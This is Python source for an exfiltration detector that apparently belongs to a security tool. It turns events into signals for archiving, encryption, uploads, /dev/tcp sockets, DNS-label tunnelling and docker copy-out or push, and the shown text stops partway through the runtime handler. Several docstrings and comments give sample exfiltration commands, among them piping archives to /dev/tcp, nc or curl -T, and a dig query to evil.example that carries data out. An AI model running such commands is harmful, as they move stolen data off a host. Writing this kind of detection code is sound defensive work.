"""Stateless indicators: one event in, the signals it carries out. No memory, no verdicts.

The three indicators of the ADS are here: an archiver or compressor run with create semantics
(or a library/cmdlet doing the same), an archive file written, and traffic leaving for a
non-internal address. Transfer tools and container-runtime commands are signals too, so the
correlation can join "what was packed" with "what carried it out".
"""

from __future__ import annotations

import re
from dataclasses import replace
from enum import StrEnum
from itertools import islice, takewhile

import msgspec

from tidewaiter.detection import cmdline, netloc, powershell
from tidewaiter.detection.addresses import AddressPolicy, legacy_ipv4
from tidewaiter.detection.catalog import Archiver, Catalog, Encryptor, Transfer, load
from tidewaiter.detection.options import Parsed, parse
from tidewaiter.events import Activity, Api, Event, Kind, Process
from tidewaiter.identity import registry_of

_COMPRESSED_SUFFIX = {
    "gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "pbzip2": ".bz2", "xz": ".xz", "pixz": ".xz",
    "lzma": ".lzma", "zstd": ".zst", "pzstd": ".zst", "lz4": ".lz4", "lzip": ".lz", "lzop": ".lzo",
    "compress": ".Z", "brotli": ".br",
}  # fmt: skip
_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/\s'\"]+)/(\d+)")
_WORD = re.compile(r"[^\s'\"<>|;&()=,]+")
DNS_DATA_LABEL = 24  # a DNS label this long is data, not a name someone chose
_LITERAL_FEEDERS = frozenset({"echo", "printf", "true", "false", ":", "yes"})
_READERS = frozenset({"cat", "tac", "pv", "dd", "head", "tail", "base64", "xxd", "od", "openssl"})
MAX_LITERAL_FEED = 256  # characters of literal text piped in that still read as a probe
MAX_SCRIPT_URLS = 8  # addresses judged per script upload, as curl's URLs
MAX_QUIET = 4096  # process starts remembered as raising nothing (Detector._quiet)
# Only a start whose text is this short is remembered: the text is the attacker's, and 4,096
# megabyte command lines must not be held. Health checks and cron lines are far shorter.
MAX_QUIET_CHARS = 1024
_TAR_LETTERS = frozenset("AcdrtuxCfFgGhiIjJkKlLmMnNoOpPRsSTUvVwWXzZ")  # GNU tar's short options
_TAR_COMPRESSION = frozenset("zjJZa")  # -z gzip, -j bzip2, -J xz, -Z compress, -a by suffix
_TAR_COMPRESSION_LONG = frozenset(
    {"--gzip", "--bzip2", "--xz", "--zstd", "--lzma", "--lzip", "--lzop", "--compress",
     "--auto-compress", "--use-compress-program"}
)  # fmt: skip
_REMOTE_SCHEMES = ("s3://", "gs://", "az://", "https://", "http://", "wasbs://", "abfss://")


class SignalKind(StrEnum):
    ARCHIVE = "archive"  # an archiver, compressor or library created an archive
    ENCRYPT = "encrypt"  # collected data (or an archive) was encrypted
    ARCHIVE_FILE = "archive_file"  # a file with an archive's name or magic bytes was written
    UPLOAD = "upload"  # a transfer tool sent files somewhere
    SPLIT = "split"  # a file was split into pieces (before transfer)
    EGRESS = "egress"  # traffic to a non-internal address
    RUNTIME = "runtime"  # a host process reached into a container runtime (docker run -v, exec)
    API_COPY = "api_copy"  # an archiver exec'd through the orchestrator API (what kubectl cp runs)
    COPY_OUT = "copy_out"  # files or a whole filesystem copied out of a container (cp, export)
    COMMIT = "commit"  # a container committed to an image
    PUSH = "push"  # an image pushed to a registry
    HOST_MOUNT = "host_mount"  # a container created with a sensitive host path mounted
    SIGMA = "sigma"  # a user's Sigma rule that is a finding on its own (not archive or upload)


class Destination(msgspec.Struct, frozen=True, omit_defaults=True):
    host: str | None = None
    ip: str | None = None
    port: int | None = None
    internal: bool = False
    note: str | None = None  # how the command line routed the bytes there (--resolve, a proxy)

    def label(self) -> str:
        where = self.host or self.ip or "?"
        return f"{where}:{self.port}" if self.port else where


class RuleRef(msgspec.Struct, frozen=True, omit_defaults=True):
    """The user's Sigma rule a signal came from (`--sigma`)."""

    title: str
    level: str  # informational, low, medium, high, critical
    id: str | None = None
    tags: tuple[str, ...] = ()
    path: str | None = None


class Signal(msgspec.Struct, frozen=True, omit_defaults=True):
    kind: SignalKind
    tool: str
    technique: str
    event: Event
    explanation: str
    archive_path: str | None = None
    encrypted: bool = False
    destination: Destination | None = None
    bytes_out: int | None = None
    sent_paths: tuple[str, ...] = ()
    piped: bool = False  # fed by an archiver through a pipe in the same command line
    repeats: int = 1  # egress sends of one flow folded into this signal
    last_time: float | None = None  # time of the last folded send
    rule: RuleRef | None = None  # the Sigma rule that raised it, for `--sigma` signals

    def same_flow(self, other: Signal) -> bool:
        """Two egress signals of one process to one destination (sends of one upload)."""
        mine, theirs = self.event, other.event
        return (
            self.kind is SignalKind.EGRESS
            and other.kind is SignalKind.EGRESS
            and self.destination == other.destination
            and (mine.process.pid if mine.process else None)
            == (theirs.process.pid if theirs.process else None)
        )

    def fold(self, other: Signal) -> Signal:
        """This flow with another send of it added: bytes summed, the first record kept."""
        total = (self.bytes_out or 0) + (other.bytes_out or 0)
        repeats = self.repeats + other.repeats
        dst = self.destination.label() if self.destination else "?"
        scope = _egress_scope(self.destination)
        return msgspec.structs.replace(
            self,
            bytes_out=total or None,
            repeats=repeats,
            last_time=other.last_time or other.event.time,
            explanation=f"{total} bytes to {scope} {dst} in {repeats} records",
        )


_LaunchKey = tuple[
    str | None, str | None, tuple[str, ...] | None, str | None, str | None, str | None
]


def launch_key(process: Process) -> _LaunchKey:
    """Everything the analysis of a process start reads (``Detector._process`` and what it
    calls): the binary's path and names, the command line, argv, and the parent's path and
    command line (``_fed_by_parent``). Its result is a function of these alone, so two starts
    equal here raise the same signals. A field added to that analysis must be added here."""
    parent = process.parent
    return (
        process.path,
        process.cmd_line,
        process.args,
        process.original_name,
        parent.path if parent is not None else None,
        parent.cmd_line if parent is not None else None,
    )


def _chars(key: _LaunchKey) -> int:
    path, cmd, args, original, parent_path, parent_cmd = key
    texts = (path, cmd, original, parent_path, parent_cmd)
    size = sum(len(text) for text in texts if text)
    return size + sum(map(len, args)) if args else size


class Detector:
    """Turns events into signals using the catalog and the address policy."""

    def __init__(self, policy: AddressPolicy | None = None, catalog: Catalog | None = None) -> None:
        self.catalog = catalog or load()
        self.policy = policy or AddressPolicy()
        self.cut_commands = 0  # signals from command lines longer than cmdline.MAX_COMMAND
        # Process starts that raised nothing, by every field of the process the analysis
        # reads: the same health check or cron line runs thousands of times a day, and one
        # that differs in anything read (its parent's shell line included) is analysed anew.
        self._quiet: dict[_LaunchKey, None] = {}

    def signals(self, event: Event) -> list[Signal]:
        kind = event.kind
        if kind is Kind.PROCESS:
            if event.activity is Activity.LAUNCH:
                return self._launch(event)
            if event.activity is Activity.SCRIPT and event.process and event.process.cmd_line:
                return self._script(event, powershell.plain(event.process.cmd_line))
            return []
        if kind is Kind.NETWORK:
            return self._egress(event)
        if kind is Kind.FILE:
            return self._file(event)
        if event.api is not None:
            return self._api(event, event.api)
        return []

    # --- orchestrator and runtime API calls ----------------------------------------------

    def _api(self, event: Event, api: Api) -> list[Signal]:
        operation = api.operation
        # exec_create only registers a command; exec_start runs it (one docker exec, one signal)
        if operation in ("exec", "attach", "exec_start") and api.command:
            return self._api_exec(event, api)
        if operation in ("copy", "export"):
            what = "its whole filesystem" if operation == "export" else (api.target or "files")
            return [
                self._platform(
                    SignalKind.COPY_OUT,
                    f"docker {operation}",
                    event,
                    f"{what} copied out of the container",
                    api.target,
                )
            ]
        if operation == "commit":
            return [
                self._platform(
                    SignalKind.COMMIT,
                    "docker commit",
                    event,
                    "container committed to an image",
                    api.target,
                )
            ]
        if operation == "push" and api.target:
            return [
                self._platform(
                    SignalKind.PUSH, "docker push", event, f"image {api.target} pushed", api.target
                )
            ]
        if operation in ("create", "start") and api.mounts:
            return self._mounts(event, api)
        return []

    def _api_exec(self, event: Event, api: Api) -> list[Signal]:
        """A command run through the API runs inside the container: analyse it like an exec.
        A tar create through Kubernetes pods/exec is the shape of `kubectl cp` from a pod."""
        argv = list(api.command)
        name = cmdline.exe_name(argv[0])
        if name not in self.catalog.interesting:
            return []
        found = self._command(event, cmdline.Command(argv), name, " ".join(argv))
        if event.kind is not Kind.ORCHESTRATOR:
            return found
        out: list[Signal] = []
        for signal in found:
            if signal.kind is SignalKind.ARCHIVE:
                paths = _archived_paths(argv)
                out.append(
                    msgspec.structs.replace(
                        signal,
                        kind=SignalKind.API_COPY,
                        explanation=f"{' '.join(argv)[:200]} run through the Kubernetes API "
                        f"by {api.user or 'an unknown user'}",
                        sent_paths=paths,
                    )
                )
            else:
                out.append(signal)
        return out

    def _mounts(self, event: Event, api: Api) -> list[Signal]:
        sensitive = [m for m in api.mounts if self.catalog.sensitive_mount(m.source)]
        if not sensitive:
            return []
        listed = ", ".join(f"{m.source}:{m.destination or '?'}" for m in sensitive)
        extra = " (privileged)" if api.privileged else ""
        return [
            Signal(
                SignalKind.HOST_MOUNT,
                tool=f"{api.operation} with mounts",
                technique="T1611",
                event=event,
                explanation=f"container created with host path {listed} mounted{extra}",
                sent_paths=tuple(m.source for m in sensitive),
            )
        ]

    def _platform(
        self, kind: SignalKind, tool: str, event: Event, explanation: str, target: str | None
    ) -> Signal:
        technique = {SignalKind.PUSH: "T1567", SignalKind.COMMIT: "T1560"}.get(kind, "T1609")
        destination = None
        if kind is SignalKind.PUSH and target:
            destination = Destination(host=registry_of(target), internal=False)
        return Signal(
            kind,
            tool=tool,
            technique=technique,
            event=event,
            explanation=explanation,
            archive_path=target if kind is SignalKind.COPY_OUT else None,
            destination=destination,
            sent_paths=(target,) if target else (),
        )

    # --- network -------------------------------------------------------------------------

    def _egress(self, event: Event) -> list[Signal]:
        dst = event.dst_endpoint
        if dst is None or dst.ip is None or event.activity is Activity.CLOSE:
            return []
        internal = self.policy.ip_internal(dst.ip)
        if internal is not False and not (internal and self.policy.in_shared_range(dst.ip)):
            return []
        # The shared range is internal only by choice: its bytes stay in the evidence.
        sent = event.traffic.bytes_out if event.traffic else None
        what = f"{sent} bytes" if sent else "a connection"
        destination = Destination(dst.hostname, dst.ip, dst.port, internal=bool(internal))
        return [
            Signal(
                SignalKind.EGRESS,
                tool=event.process.name if event.process else "network",
                technique="T1041",
                event=event,
                explanation=f"{what} to {_egress_scope(destination)} {dst.ip}:{dst.port}",
                destination=destination,
                bytes_out=sent,
            )
        ]

    # --- files ---------------------------------------------------------------------------

    def _file(self, event: Event) -> list[Signal]:
        file = event.file
        if file is None or event.activity not in (Activity.CREATE, Activity.WRITE, Activity.RENAME):
            return []
        if (
            cmdline.exe_name(event.process.path if event.process else None)
            in self.catalog.downloaders
        ):
            return []  # `curl -O x.tgz`: an archive received, not one staged
        if (
            event.activity is Activity.RENAME
            and cmdline.exe_name(event.process.path if event.process else None)
            in self.catalog.download_renamers
        ):
            return []  # a browser or package manager finishing a download under its real name
        kind = self.catalog.archive_kind(file.path)
        by_magic = self.catalog.magic_kind(file.magic) if file.magic else None
        if kind is None and by_magic is None:
            return []
        encrypted = kind in self.catalog.encrypted_extensions
        how = f"magic bytes of {by_magic}" if by_magic else f"extension {kind}"
        return [
            Signal(
                SignalKind.ARCHIVE_FILE,
                tool=event.process.name if event.process and event.process.path else "file",
                technique="T1560",
                event=event,
                explanation=f"archive file {file.path} written ({how})",
                archive_path=file.path,
                encrypted=encrypted,
            )
        ]

    # --- processes -----------------------------------------------------------------------

    def _launch(self, event: Event) -> list[Signal]:
        process = event.process
        if process is None:
            return []
        key = launch_key(process)
        if key in self._quiet:
            return []
        found = self._process(event)
        if not found and _chars(key) <= MAX_QUIET_CHARS:
            if len(self._quiet) >= MAX_QUIET:
                self._quiet.clear()
            self._quiet[key] = None
        return found

    def _process(self, event: Event) -> list[Signal]:
        process = event.process
        if process is None:
            return []
        name = self._identify(process)
        cmd = process.cmd_line or " ".join(process.args or ())
        if name is None:
            return self._renamed_archiver(event, process, cmd)
        wrapper = name in self.catalog.wrappers and name not in cmdline.MULTICALL
        if wrapper and not self.catalog.mentions_catalog(cmd):
            return []  # a shell or interpreter whose text names nothing in the catalog
        argv = list(process.args) if process.args else cmdline.split_command(cmd, process.path)
        if not argv:
            return []
        found = self._command(event, cmdline.Command(argv), name, cmd)
        if len(cmd) > cmdline.MAX_COMMAND and found:
            self.cut_commands += 1
            note = f" (command line of {len(cmd)} characters, analysed up to {cmdline.MAX_COMMAND})"
            found = [msgspec.structs.replace(s, explanation=s.explanation + note) for s in found]
        return found

    def _identify(self, process: Process) -> str | None:
        """What the binary is, by every name the source gives it: its path, argv[0], and the
        name the file carries inside it (Sysmon's OriginalFileName, from the PE header)."""
        argv0 = (process.args or (process.cmd_line or "").split(maxsplit=1) or [""])[0]
        for candidate in (process.path, argv0, process.original_name):
            name = cmdline.exe_name(candidate)
            if name in self.catalog.interesting:
                return name
        return None

    def _renamed_archiver(self, event: Event, process: Process, cmd: str) -> list[Signal]:
        """A binary the catalog does not name, whose argv is tar's create grammar with an
        archive for output (`/tmp/pack -czf /tmp/a.tgz /data`, `pack -I sq -cf a.tar.sq /d`):
        copied or renamed, tar still parses its options as tar. Compilers share `-c`, `-f` and
        `-I`, so the output must look like an archive or a compressor must be asked for."""
        if "-" not in cmd and " c" not in cmd:
            return []  # cheap: no option, no old-style cluster (most execs)
        argv = list(process.args) if process.args else cmdline.split_command(cmd, process.path)
        if len(argv) < 3:
            return []
        spec = self.catalog.archivers["tar"]
        # an old-style cluster only when it is one tar could read (`cJf`, not `template`)
        first = argv[1]
        bundled = first.isalpha() and set(first) <= _TAR_LETTERS and "f" in first
        opts = parse(argv[1:], spec.value_short, bundled, spec.long_table)
        output = opts.value("-f", "--file")
        if not output or not opts.positionals or not _creates(spec, opts):
            return []
        compressed = bool(opts.shorts & _TAR_COMPRESSION or opts.longs & _TAR_COMPRESSION_LONG)
        if not (self.catalog.archive_kind(output) or ".tar" in output.lower() or compressed):
            return []
        binary = cmdline.exe_name(process.path or argv[0]) or "?"
        return [
            Signal(
                SignalKind.ARCHIVE,
                tool="tar",
                technique=spec.technique,
                event=event,
                explanation=f"{binary} (tar's create options, under another name) created an "
                f"archive {output}",
                archive_path=None if output == "-" else output,
            )
        ]

    def _fed_by_parent(self, event: Event, name: str) -> bool:
        """A tool that sends only its input (nc, ssh) counts when its parent shell pipes or
        redirects into it; the child's own exec record cannot show that."""
        parent = event.process.parent if event.process else None
        if parent is None or not parent.cmd_line:
            return False
        parent_name = cmdline.exe_name(parent.path or parent.cmd_line.split(maxsplit=1)[0])
        if parent_name not in self.catalog.posix_shells | self.catalog.cmd_shells:
            return False
        for command in self._wrapped(parent.cmd_line, parent.path):
            argv = self._unlaunched(command.argv)
            if argv and cmdline.exe_name(argv[0]) == name:
                return _feeds_data(command)
        return False

    def _unlaunched(self, argv: list[str]) -> list[str]:
        """The command launchers run (`nice -n 5 timeout 60 nc h 1` runs `nc h 1`): argv
        itself when it starts with none, [] when a launcher runs nothing."""
        while argv and (launcher := self.catalog.launchers.get(cmdline.exe_name(argv[0]))):
            argv = cmdline.launched(
                argv,
                launcher.value_short,
                launcher.value_long,
                launcher.operands,
                launcher.assignments,
            )
        return argv

    def _wrapped(self, cmd: str, path: str | None) -> list[cmdline.Command]:
        return self._wrapped_argv(cmdline.split_command(cmd, path), cmd)

    def _wrapped_argv(self, argv: list[str], cmd: str) -> list[cmdline.Command]:
        """The pipeline a shell wrapper runs; a POSIX payload is read from the argv (whose
        quoting is already resolved), a cmd.exe payload from the raw command line."""
        name = cmdline.exe_name(argv[0]) if argv else ""
        if name in self.catalog.posix_shells:
            payload = cmdline.posix_payload(argv)
            return cmdline.parse_posix_pipeline(payload) if payload else []
        if name in self.catalog.cmd_shells:
            payload = cmdline.cmd_payload(cmd)
            return cmdline.parse_cmd_pipeline(payload) if payload else []
        return []

    def _command(self, event: Event, command: cmdline.Command, name: str, cmd: str) -> list[Signal]:
        catalog = self.catalog
        argv = command.argv
        if name in catalog.launchers:
            inner = self._unlaunched(argv)
            inner_name = cmdline.exe_name(inner[0]) if inner else ""
            if inner_name not in catalog.interesting:
                return []
            # What feeds the launcher feeds the command it runs (`nice nc h 1 < a.tgz`).
            return self._command(event, replace(command, argv=inner), inner_name, cmd)
        if name in catalog.posix_shells or name in catalog.cmd_shells:
            multicall = name in cmdline.MULTICALL
            if multicall and cmdline.exe_name(argv[0]) != name:
                # the exec reported busybox's path with the applet's argv (`tar -czf ...`)
                applet = cmdline.exe_name(argv[0])
                if applet in catalog.interesting and applet not in cmdline.MULTICALL:
                    return self._command(event, command, applet, cmd)
            if multicall and len(argv) > 1 and argv[1] not in ("sh", "ash", "bash"):
                applet = cmdline.exe_name(argv[1])
                if applet not in catalog.interesting and event.process is not None:
                    # Tetragon drops argv[0]: `/bin/toybox -czf ...` ran as its tar applet
                    return self._renamed_archiver(event, event.process, cmd)
                return self._command(event, cmdline.Command(argv[1:]), applet, cmd)
            piped = self._pipeline(event, self._wrapped_argv(argv, cmd))
            return piped + self._dev_tcp(event, argv) if name in catalog.posix_shells else piped
        if name in catalog.powershells:
            payload = cmdline.powershell_payload(argv)
            if payload is None:
                return []
            payload = powershell.plain(payload)
            scripted = self._script(event, payload)
            return scripted or self._pipeline(
                event, cmdline.parse_cmd_pipeline(payload.replace(";", "&"))
            )
        if name in catalog.interpreters:
            return self._script(event, cmd)
        found: list[Signal] = []
        if archiver := catalog.archivers.get(name):
            found += self._archive(event, archiver, command)
        if encryptor := catalog.encryptors.get(name):
            found += self._encrypt(event, encryptor, command)
        if transfer := catalog.transfers.get(name):
            found += self._transfer(event, transfer, command)
        if splitter := catalog.splitters.get(name):
            found.append(self._split(event, splitter.tool, splitter.technique, command))
        if name in catalog.runtime_binaries:
            found += self._runtime(event, name, command)
        if name in catalog.resolvers:
            found += self._dns_query(event, name, command)
        return found

    def _dns_query(self, event: Event, name: str, command: cmdline.Command) -> list[Signal]:
        """`dig 4a5b...9f.x.evil.example`: a label too long for a name anyone types carries data
        out in the query itself, to whoever serves the domain."""
        names = [a for a in command.argv[1:] if "." in a and not a.startswith(("-", "@", "+"))]
        query = names[0] if names and len(names[0]) <= 253 else ""
        labels = query.rstrip(".").split(".")
        if len(labels) < 3 or max(len(label) for label in labels[:-2]) < DNS_DATA_LABEL:
            return []
        domain = ".".join(labels[-2:]).lower()
        destination = self._host_destination(domain, 53)
        if destination is None or destination.internal:
            return []
        return [
            Signal(
                SignalKind.EGRESS,
                tool=name,
                technique="T1048.003",
                event=event,
                explanation=f"{name} queried {query[:80]}: data in a DNS name under {domain}",
                destination=destination,
                bytes_out=len(query),
                sent_paths=(query.lower(),),
            )
        ]

    def _pipeline(self, event: Event, commands: list[cmdline.Command]) -> list[Signal]:
        found: list[Signal] = []
        piped_archive = False
        for command in commands:
            if not command.argv:
                continue
            name = cmdline.exe_name(command.argv[0])
            # A glob (`/???/t?r`) is each tool it may name, until one reads as that tool.
            names = [name] if name in self.catalog.interesting else self.catalog.glob_names(name)
            if not names:
                piped_archive = False
                continue
            text = " ".join(command.argv)
            signals = next(
                (hit for n in names if (hit := self._command(event, command, n, text))), []
            )
            for signal in signals:
                if signal.kind is SignalKind.UPLOAD and command.piped_in and piped_archive:
                    found.append(
                        msgspec.structs.replace(
                            signal,
                            piped=True,
                            explanation=signal.explanation
                            + " (fed through a pipe by the archiver)",
                        )
                    )
                else:
                    found.append(signal)
            made_archive = any(s.kind in (SignalKind.ARCHIVE, SignalKind.ENCRYPT) for s in signals)
            piped_archive = command.piped_out and (made_archive or piped_archive)
        return found

    # --- archiving -----------------------------------------------------------------------

    def _archive(self, event: Event, spec: Archiver, command: cmdline.Command) -> list[Signal]:
        argv = command.argv
        opts = parse(argv[1:], spec.value_short, spec.bundled, spec.long_table)
        if not _creates(spec, opts):
            return []
        called = cmdline.exe_name(argv[0])
        tool = called if called in spec.binaries else spec.tool  # renamed: what it really is
        path = _archive_output(spec, tool, opts, command)
        encrypted = any(opts.has(o) for o in spec.encrypt_options)
        where = f" {path}" if path else ""
        technique = spec.technique
        verb = "an encrypted archive" if encrypted else "an archive"
        return [
            Signal(
                SignalKind.ARCHIVE,
                tool=tool,
                technique=technique,
                event=event,
                explanation=f"{tool} created {verb}{where}",
                archive_path=path,
                encrypted=encrypted,
            )
        ]

    def _encrypt(self, event: Event, spec: Encryptor, command: cmdline.Command) -> list[Signal]:
        argv = command.argv
        opts = parse(argv[1:], spec.value_short)
        if spec.subcommands and not (opts.positionals and opts.positionals[0] in spec.subcommands):
            return []
        if any(opts.has(o) for o in spec.decrypt_options):
            return []
        if spec.encrypt_options and not any(opts.has(o) for o in spec.encrypt_options):
            return []
        output = opts.value(*spec.output_options) or command.stdout_file
        inputs = [p for p in opts.positionals if p not in spec.subcommands]
        target = output or (inputs[-1] if inputs else None)
        return [
            Signal(
                SignalKind.ENCRYPT,
                tool=spec.tool,
                technique=spec.technique,
                event=event,
                explanation=f"{spec.tool} encrypted {target or 'data'}",
                archive_path=output,
                encrypted=True,
                sent_paths=tuple(inputs),
            )
        ]

    def _script(self, event: Event, text: str) -> list[Signal]:
        text = text[: cmdline.MAX_SCRIPT]  # the catalog's patterns are bounded, not linear
        if not self.catalog.mentions_catalog(text):
            return []
        found: list[Signal] = []
        for spec, pattern, output_pattern in self.catalog.scripts:
            if not pattern.search(text):
                continue
            match = output_pattern.search(text) if output_pattern else None
            path = next((g for g in match.groups() if g), None) if match else None
            if match and path and spec.tool in POWERSHELL_SCRIPTS:
                path = _powershell_path(text, match)
            found.append(
                Signal(
                    SignalKind.ARCHIVE,
                    tool=spec.tool,
                    technique=spec.technique,
                    event=event,
                    explanation=f"{spec.name} created an archive" + (f" {path}" if path else ""),
                    archive_path=path,
                )
            )
        for transfer, pattern, dest_pattern in self.catalog.script_transfers:
            if pattern.search(text):
                # Every address the script names, not the first: a decoy internal URL (or
                # PowerShell's -Proxy) written before the real one must not make it internal.
                named = (m.group(1) for m in dest_pattern.finditer(text))
                urls: list[str | None] = [*dict.fromkeys(islice(named, MAX_SCRIPT_URLS))] or [None]
                sent = self._archives_named(text)
                found.extend(
                    self._upload(event, transfer.tool, transfer.technique, url, sent, False)
                    for url in urls
                )
        return found

    def _archives_named(self, text: str) -> tuple[str, ...]:
        """Archive files a script or shell payload names (what a raw socket most likely sends:
        `open("/tmp/a.tgz")`, `cat a.tgz > /dev/tcp/...`)."""
        words = _WORD.findall(text[:65_536])
        return tuple(dict.fromkeys(w for w in words if self.catalog.archive_kind(w)))[:4]

    def _dev_tcp(self, event: Event, argv: list[str]) -> list[Signal]:
        """bash's /dev/tcp/HOST/PORT (and udp): a shell that is its own transfer tool."""
        payload = cmdline.posix_payload(argv) or ""
        match = _DEV_TCP.search(payload[:65_536])
        if match is None:
            return []
        port = int(match.group(2)) if len(match.group(2)) <= 5 else None
        destination = self._host_destination(match.group(1), port)
        sent = self._archives_named(payload)
        return [self._upload(event, "bash /dev/tcp", "T1048", destination, sent, False)]

    # --- transfers -----------------------------------------------------------------------

    def _transfer(self, event: Event, spec: Transfer, command: cmdline.Command) -> list[Signal]:
        argv = command.argv
        opts = parse(argv[1:], spec.value_short, word_values=spec.connect_options)
        if spec.listen_options and any(opts.has(o) for o in spec.listen_options):
            return []
        if spec.subcommands and not (opts.positionals and opts.positionals[0] in spec.subcommands):
            return []
        if spec.verbs and not any(p in spec.verbs for p in opts.positionals[1:3]):
            return []
        sent = _sent_paths(spec, opts)
        fed = _feeds_data(command)
        if spec.needs_input and not fed:
            fed = self._fed_by_parent(event, cmdline.exe_name(argv[0]))
        if command.stdin_file:
            sent = (*sent, command.stdin_file)
        if command.piped_in:  # `cat /tmp/a.tgz | curl -T - URL` sends what cat reads
            sent = (*sent, *_read_by(command.upstream))
        config = next((f"{o} {opts.value(o)}" for o in spec.config_options if opts.value(o)), None)
        if config is not None:
            # Its options, the file it sends and where to, are in a file the telemetry lacks.
            unknown = self._destination(spec, opts) or Destination(host="unknown destination")
            note = f"options read from {config[:100]}, not in the telemetry"
            routed = msgspec.structs.replace(unknown, internal=False, note=note)
            return [self._upload(event, spec.tool, spec.technique, routed, sent, fed)]
        uploads = spec.upload_options or spec.data_options
        if uploads and not sent and not any(opts.has(o) for o in spec.upload_options):
            return []
        destination = self._destination(spec, opts)
        if destination is None:
            return []
        if spec.needs_input and not fed and not _remote_write(opts):
            return []
        if spec.destination in ("remote_last", "cloud", "remote_name", "registry"):
            sent = (*sent, *_local_sources(opts.positionals, spec))
        elif spec.destination == "service":  # `gh release upload TAG FILE...`: the file paths
            skip = bool(spec.subcommands) + bool(spec.verbs)
            sent = (*sent, *(p for p in opts.positionals[skip:] if "/" in p or "." in p))
        # Every pinned address counts (`--resolve` is given once per name, and which name the
        # bytes took is not always clear); a proxy given twice is the last one, as curl reads it.
        pinned = self._routes(spec.route_options, opts, every=True)
        relays = self._routes(spec.relay_options, opts, every=False)
        targets = pinned or self._more_urls(spec, opts, destination)
        if relays:  # the URL's host gets the bytes too: judged as well, and says through what
            how = (relays[0].note or "").removeprefix("routed by ")
            through = f"through {how}"[:120]
            targets = [msgspec.structs.replace(d, note=d.note or through) for d in targets]
        targets = [*targets, *relays]
        return [self._upload(event, spec.tool, spec.technique, d, sent, fed) for d in targets]

    def _routes(self, options: tuple[str, ...], opts: Parsed, every: bool) -> list[Destination]:
        """Where a proxy or a pinned address sends the bytes, whatever the URL names: `curl
        --resolve github.com:443:203.0.113.77 https://github.com/` reaches 203.0.113.77."""
        out: list[Destination] = []
        for option in options:
            values = opts.all_values(option) if every else [opts.value(option)]
            out.extend(self._route(option, value) for value in values if value)
        return out

    def _route(self, option: str, value: str) -> Destination:
        fields = value.split(":")
        if option == "--resolve" and len(fields) >= 3:
            target = ":".join(fields[2:]).split(",", 1)[0]  # ADDR[,ADDR...], maybe [v6]
        elif option == "--connect-to" and len(fields) >= 4:
            target = fields[2] or fields[0]  # an empty CHOST keeps the name
        else:
            target = value if "://" in value else f"proxy://{value}"
        try:
            routed = self._url_destination(target if "://" in target else f"x://{target}")
        except ValueError:  # `[oops`: unreadable, so certainly not the allowed name
            routed = Destination(host=target[:80], internal=False)
        return msgspec.structs.replace(routed, note=f"routed by {option} {value}"[:120])

    def _more_urls(self, spec: Transfer, opts: Parsed, first: Destination) -> list[Destination]:
        """Every URL a command sends to (`curl -T a.tgz https://allowed/ https://other/`)."""
        if spec.destination != "url":
            return [first]
        urls = [p for p in opts.positionals if "://" in p][1:9]
        more = [self._url_destination(u) for u in urls]
        return [first, *(d for d in more if d != first)]

    def _upload(
        self,
        event: Event,
        tool: str,
        technique: str,
        destination: Destination | str | None,
        sent: tuple[str, ...],
        fed: bool,
    ) -> Signal:
        if isinstance(destination, str) or destination is None:
            destination = self._url_destination(destination)
        what = ", ".join(sent[:3]) if sent else ("its input" if fed else "data")
        scope = "internal" if destination.internal else "non-internal"
        via = f" ({destination.note})" if destination.note else ""
        return Signal(
            SignalKind.UPLOAD,
            tool=tool,
            technique=technique,
            event=event,
            explanation=f"{tool} sent {what} to {scope} {destination.label()}{via}",
            destination=destination,
            sent_paths=sent,
        )

    def _destination(self, spec: Transfer, opts: Parsed) -> Destination | None:
        positionals = opts.positionals
        kind = spec.destination
        if kind == "url":
            url = next((p for p in positionals if "://" in p), None)
            url = (
                url
                or opts.value("--url")
                or next((p for p in positionals if "/" in p or "." in p), None)
            )
            return self._url_destination(url) if url else None
        if kind == "remote_last":
            if len(positionals) < 2:
                return None
            return self._host_destination(_remote_host(positionals[-1]), None)
        if kind == "host":
            hosts = [p for p in positionals if not p.startswith("-")]
            return self._host_destination(hosts[0].rsplit("@", 1)[-1], None) if hosts else None
        if kind == "host_port":
            if len(positionals) < 2:
                return None
            return self._host_destination(positionals[0], netloc.port(positionals[1]))
        if kind == "socat":
            return _socat_destination(self, positionals)
        if kind == "connect_option":  # `openssl s_client -connect HOST:PORT`
            target = opts.value(*spec.connect_options)
            if not target:
                return None
            named, number = netloc.url_host_port(f"tcp://{target}")
            return self._host_destination(named or target[:80], number)
        if kind == "cloud":
            target = next((p for p in reversed(positionals) if p.startswith(_REMOTE_SCHEMES)), None)
            return (
                Destination(
                    host=target.split("/", 3)[2] if target and "://" in target else target,
                    internal=False,
                )
                if target
                else None
            )
        if kind == "service":
            return Destination(host=spec.service, internal=False)
        if kind == "remote_name":
            remote = positionals[-1] if positionals else ""
            name = remote.split(":", 1)[0] if ":" in remote and not remote.startswith("/") else None
            return Destination(host=f"{name}:", internal=False) if name else None
        if kind == "registry":  # `oras push REGISTRY/REPO:TAG FILE...`
            ref = positionals[1] if len(positionals) > 1 else ""
            host, _, port = _registry_host(ref).partition(":")
            return self._host_destination(host, netloc.port(port)) if ref else None
        if kind == "git_remote":  # only a remote written out: `origin` says nothing
            written = (p for p in positionals[1:] if "://" in p or _SCP_LIKE.match(p))
            given = next(written, None)
            if given is None:
                return None
            if "://" in given:
                return self._url_destination(given)
            return self._host_destination(_remote_host(given), None)
        return None

    def _host_destination(self, host: str | None, port: int | None) -> Destination | None:
        if not host:
            return None
        host = host.strip("[]")
        host = legacy_ipv4(host) or host  # `http://3405803853/` is 203.0.113.77 to curl
        ip = host if self.policy.ip_internal(host) is not None else None
        return Destination(
            host=None if ip else host, ip=ip, port=port, internal=self.policy.host_internal(host)
        )

    def _url_destination(self, url: str | None) -> Destination:
        if not url:
            return Destination(host="unknown destination", internal=False)
        host, port = netloc.url_host_port(url)
        destination = self._host_destination(host, port)
        return destination or Destination(host=url[:80], internal=False)

    def _split(self, event: Event, tool: str, technique: str, command: cmdline.Command) -> Signal:
        opts = parse(command.argv[1:], "abdlnCt")
        source = opts.positionals[0] if opts.positionals else None
        return Signal(
            SignalKind.SPLIT,
            tool=tool,
            technique=technique,
            event=event,
            explanation=f"{tool} cut {source or 'its input'} into pieces",
            sent_paths=(source,) if source else (),
        )

    def _runtime(self, event: Event, name: str, command: cmdline.Command) -> list[Signal]:
        opts = parse(command.argv[1:], "evwuhmcao")
        verbs = [p for p in opts.positionals[:2] if p in self.catalog.runtimes.subcommands]
        if not verbs:
            return []
        verb = verbs[0]
